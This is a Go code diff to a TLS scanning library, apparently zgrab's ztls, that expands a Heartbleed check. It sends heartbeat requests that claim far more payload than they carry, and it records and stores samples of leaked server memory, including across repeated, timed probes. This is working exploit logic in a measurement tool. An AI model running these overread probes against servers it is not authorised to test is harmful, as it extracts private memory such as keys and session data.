@@ -6,6 +6,8 @@ package ztls
 
 import (
 	"errors"
+	"io"
+	"time"
 )
 
 const (
@@ -28,24 +30,101 @@ var (
 	HeartbleedError = errors.New("Error after Heartbleed")
 )
 
+// The overread probe claims this payload length while sending no payload
+const heartbleedClaimedLength = 0x4000
+
+// Heartbeat messages carry at least this much padding (RFC 6520)
+const heartbeatPaddingLength = 16
+
+// The largest payload length a heartbeat message can claim
+const MaxHeartbeatPayloadLength = 0xffff
+
 type Heartbleed struct {
-	HeartbeatEnabled bool `json:"heartbeat_enabled"`
-	Vulnerable       bool `json:"heartbleed_vulnerable"`
+	HeartbeatEnabled   bool               `json:"heartbeat_enabled"`
+	HeartbeatResponded bool               `json:"heartbeat_responded"`
+	Vulnerable         bool               `json:"heartbleed_vulnerable"`
+	LeakedBytes        int                `json:"leaked_bytes,omitempty"`
+	LeakedSample       []byte             `json:"leaked_sample,omitempty"`
+	Probes             []*HeartbleedProbe `json:"probes,omitempty"`
+	ProbesCompleted    int                `json:"probes_completed,omitempty"`
+}
+
+// A HeartbleedProbe records one overread probe sent by
+// CheckHeartbleedProbes, with Error set for the probe that went unanswered
+type HeartbleedProbe struct {
+	ClaimedLength int    `json:"claimed_length"`
+	LeakedBytes   int    `json:"leaked_bytes"`
+	LeakedSample  []byte `json:"leaked_sample,omitempty"`
+	Error         string `json:"error,omitempty"`
+
+	// ErrorClass is not set here: callers classify Err with zerrors, which
+	// imports this package
+	ErrorClass string `json:"error_class,omitempty"`
+
+	err error
+}
+
+// Err returns the error recorded in Error, or nil
+func (p *HeartbleedProbe) Err() error {
+	return p.err
 }
 
 type heartbleedMessage struct {
 	raw []byte
 }
 
-func (m *heartbleedMessage) marshal() []byte {
-	x := make([]byte, 3)
-	x[0] = 1
-	x[1] = byte(0x00)
-	x[2] = byte(0x00)
+// marshal encodes a heartbeat request claiming payloadLength bytes of
+// payload followed by payload and padding
+func (m *heartbleedMessage) marshal(payloadLength int, payload []byte, padding int) []byte {
+	x := make([]byte, 3+len(payload)+padding)
+	x[0] = heartbeatTypeRequest
+	x[1] = byte(payloadLength >> 8)
+	x[2] = byte(payloadLength)
+	copy(x[3:], payload)
 	m.raw = x
 	return x
 }
 
+// parseHeartbeatResponse returns the number of payload bytes in a heartbeat
+// response beyond the sentLength bytes actually sent, copying as many of them
+// as fit into sample
+func parseHeartbeatResponse(data []byte, sentLength int, sample []byte) (leaked int, n int) {
+	if len(data) < 3 || data[0] != heartbeatTypeResponse {
+		return 0, 0
+	}
+	claimed := int(data[1])<<8 | int(data[2])
+	payload := data[3:]
+	if claimed < len(payload) {
+		payload = payload[0:claimed]
+	}
+	if len(payload) <= sentLength {
+		return 0, 0
+	}
+	extra := payload[sentLength:]
+	return len(extra), copy(sample, extra)
+}
+
+// sendHeartbeat writes a heartbeat request and returns the payload of the
+// response record. c.in.Mutex must be held.
+func (c *Conn) sendHeartbeat(hb *heartbleedMessage) ([]byte, error) {
+	if _, err := c.writeRecord(recordTypeHeartbeat, hb.raw); err != nil {
+		return nil, err
+	}
+	if err := c.readRecord(recordTypeHeartbeat); err != nil {
+		return nil, HeartbleedError
+	}
+	if c.in.err != nil {
+		return nil, HeartbleedError
+	}
+	data := append([]byte(nil), c.input.data[c.input.off:]...)
+	c.in.freeBlock(c.input)
+	c.input = nil
+	return data, nil
+}
+
+// CheckHeartbleed sends a heartbeat request claiming more payload than it
+// carries. Bytes returned beyond the (empty) payload are counted in the log
+// and copied into b, which caps the recorded sample.
 func (c *Conn) CheckHeartbleed(b []byte) (n int, err error) {
 	if err = c.Handshake(); err != nil {
 		return
@@ -57,31 +136,95 @@ func (c *Conn) CheckHeartbleed(b []byte) (n int, err error) {
 	defer c.in.Unlock()
 
 	hb := heartbleedMessage{}
-	hb.marshal()
+	hb.marshal(heartbleedClaimedLength, nil, 0)
 
-	if _, err = c.writeRecord(recordTypeHeartbeat, hb.raw); err != nil {
+	data, err := c.sendHeartbeat(&hb)
+	if err != nil {
 		return 0, err
 	}
+	leaked, n := parseHeartbeatResponse(data, 0, b)
+	if leaked > 0 {
+		c.heartbleedLog.Vulnerable = true
+		c.heartbleedLog.LeakedBytes = leaked
+		c.heartbleedLog.LeakedSample = append([]byte(nil), b[0:n]...)
+	}
+	return n, HeartbleedError
+}
 
-	if err = c.readRecord(recordTypeHeartbeat); err != nil {
-		return 0, HeartbleedError
+// CheckHeartbleedProbes sends up to k overread probes on the session, each
+// claiming payloadLength bytes of payload and waiting delay after the one
+// before. Every probe is appended to the log, an answered one with up to
+// len(b) of the bytes it leaked, using b as scratch space. It returns the
+// number of probes answered. A probe that cannot be written or goes
+// unanswered, e.g. because the server closed the connection, is logged with
+// its error and ends the probes with HeartbleedError.
+func (c *Conn) CheckHeartbleedProbes(k, payloadLength int, delay time.Duration, b []byte) (int, error) {
+	if payloadLength < 1 || payloadLength > MaxHeartbeatPayloadLength {
+		return 0, errors.New("Invalid heartbeat payload length")
 	}
-	if c.in.err != nil {
-		return 0, HeartbleedError
+	if err := c.Handshake(); err != nil {
+		return 0, err
 	}
-	n, err = c.input.Read(b)
-	if c.input.off >= len(c.input.data) {
-		c.in.freeBlock(c.input)
-		c.input = nil
+	if !c.heartbeat {
+		return 0, nil
 	}
+	hb := heartbleedMessage{}
+	hb.marshal(payloadLength, nil, 0)
+	completed := 0
+	for i := 0; i < k; i++ {
+		if i > 0 && delay > 0 {
+			time.Sleep(delay)
+		}
+		c.in.Lock()
+		data, err := c.sendHeartbeat(&hb)
+		c.in.Unlock()
+		probe := &HeartbleedProbe{ClaimedLength: payloadLength}
+		if err != nil {
+			probe.Error = err.Error()
+			probe.err = err
+			c.heartbleedLog.Probes = append(c.heartbleedLog.Probes, probe)
+			return completed, HeartbleedError
+		}
+		leaked, n := parseHeartbeatResponse(data, 0, b)
+		probe.LeakedBytes = leaked
+		if leaked > 0 {
+			probe.LeakedSample = append([]byte(nil), b[0:n]...)
+			if !c.heartbleedLog.Vulnerable {
+				c.heartbleedLog.Vulnerable = true
+				c.heartbleedLog.LeakedBytes = leaked
+				c.heartbleedLog.LeakedSample = probe.LeakedSample
+			}
+		}
+		c.heartbleedLog.Probes = append(c.heartbleedLog.Probes, probe)
+		completed++
+		c.heartbleedLog.ProbesCompleted = completed
+	}
+	return completed, nil
+}
 
-	if n != 0 {
-		return n, HeartbleedError
+// CheckHeartbeat sends a correctly sized heartbeat request to confirm the
+// extension is enabled without triggering an overread
+func (c *Conn) CheckHeartbeat() error {
+	if err := c.Handshake(); err != nil {
+		return err
 	}
-	if err != nil {
-		return 0, HeartbleedError
+	if !c.heartbeat {
+		return nil
+	}
+	c.in.Lock()
+	defer c.in.Unlock()
+
+	payload := make([]byte, heartbeatPaddingLength)
+	if _, err := io.ReadFull(c.config.rand(), payload); err != nil {
+		return err
+	}
+	hb := heartbleedMessage{}
+	hb.marshal(len(payload), payload, heartbeatPaddingLength)
+
+	if _, err := c.sendHeartbeat(&hb); err != nil {
+		return err
 	}
-	return 0, HeartbleedError
+	return HeartbleedError
 }
 
 func (c *Conn) GetHeartbleedLog() *Heartbleed {